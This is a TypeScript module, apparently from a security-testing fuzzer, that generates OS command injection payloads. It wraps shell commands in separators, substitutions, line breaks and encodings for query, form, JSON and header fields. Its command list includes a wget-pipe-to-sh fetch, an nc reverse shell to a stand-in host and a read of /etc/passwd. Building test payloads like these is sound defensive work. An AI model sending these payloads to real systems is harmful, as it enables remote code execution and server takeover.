import type { Random } from '../../random.js';
import type { PayloadFamily } from '../payload-family.js';

const COMMANDS = [
  'id',
  'whoami',
  'uname -a',
  'cat /etc/passwd',
  'ping -c 3 127.0.0.1',
  'wget http://x.example/s.sh -O- | sh',
  'nc -e /bin/sh x.example 4444',
];
const SEPARATORS = [';', '|', '||', '&&', '&'];

const command = (r: Random) => {
  const c = r.pick(COMMANDS);
  return c === 'id' && r.next() < 0.5 ? `sleep ${r.int(2, 9)}` : c;
};

/** OS command injection: separators, substitutions and line breaks around a shell command. */
export const COMMAND_INJECTION: PayloadFamily = {
  name: 'command-injection',
  summary: 'OS command injection: ; | && separators, $() and backtick substitution, line breaks',
  templates: [
    (r) => `${r.int(1, 99)}${r.pick(SEPARATORS)} ${command(r)}`,
    (r) => `$(${command(r)})`,
    (r) => `\`${command(r)}\``,
    (r) => `${r.word(5)}\n${command(r)}`,
    (r) => `127.0.0.1${r.pick(SEPARATORS)}${command(r)}`,
  ],
  points: ['query', 'form', 'json', 'header'],
  encodings: ['plain', 'url', 'ifs'],
};
